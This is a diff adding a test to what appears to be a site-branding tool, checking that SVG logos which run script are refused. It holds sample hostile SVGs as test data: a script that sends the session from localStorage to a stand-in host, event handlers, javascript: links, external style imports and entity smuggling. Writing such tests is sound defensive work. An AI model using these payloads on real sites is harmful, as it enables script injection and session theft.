@@ -89,3 +89,41 @@ test('an accent with too little contrast, or not a colour, is refused with the r
   assert.deepEqual(pages(copy), before, 'nothing written');
   fs.rmSync(copy, { recursive: true });
 });
+
+test('a logo that runs script is refused: scripts, handlers, HTML inside, other files or addresses; nothing is written', () => {
+  const copy = fs.mkdtempSync(path.join(os.tmpdir(), 'dist-'));
+  fs.cpSync(DIST, copy, { recursive: true });
+  const before = fs.readdirSync(copy, { recursive: true }).sort();
+  const svg = (inner) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">${inner}</svg>`;
+  const hostile = {
+    script: svg('<script>fetch("//evil.example/?"+localStorage.session)</script>'),
+    handler: svg('<circle r="5" onload="alert(1)"/>'),
+    'handler, upper case': svg('<circle r="5" ONLOAD = "alert(1)"/>'),
+    foreignObject: svg('<foreignObject><iframe src="//evil.example"/></foreignObject>'),
+    'external image': svg('<image href="https://evil.example/track.png"/>'),
+    'javascript link': svg('<a xlink:href="javascript:alert(1)"><circle r="5"/></a>'),
+    'animated into a script address': svg('<set attributeName="href" to="javascript:alert(1)"/>'),
+    'external style': svg('<style>@import url(https://evil.example/x.css)</style>'),
+    'style url': svg('<rect style="fill:url(https://evil.example/x)"/>'),
+    entities: `<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;">]>${svg('&x;')}`,
+  };
+  for (const [what, text] of Object.entries(hostile)) {
+    const file = path.join(os.tmpdir(), `hostile-${process.pid}.svg`);
+    fs.writeFileSync(file, text);
+    try {
+      configure(copy, '--logo', file);
+      assert.fail(`accepted: ${what}`);
+    } catch (e) {
+      assert.match(e.stderr ?? String(e), /--logo .*: .*a logo is a picture/, what);
+    }
+    fs.rmSync(file);
+  }
+  assert.deepEqual(fs.readdirSync(copy, { recursive: true }).sort(), before, 'nothing written');
+  // A plain picture with local references is taken.
+  const fine = path.join(os.tmpdir(), `fine-${process.pid}.svg`);
+  fs.writeFileSync(fine, svg('<defs><linearGradient id="g"/></defs><rect fill="url(#g)" width="10" height="10"/><use href="#g"/>'));
+  configure(copy, '--logo', fine);
+  assert.equal(fs.readdirSync(copy).filter((f) => /^brand-[0-9a-f]{16}\.svg$/.test(f)).length, 1);
+  fs.rmSync(fine);
+  fs.rmSync(copy, { recursive: true });
+});
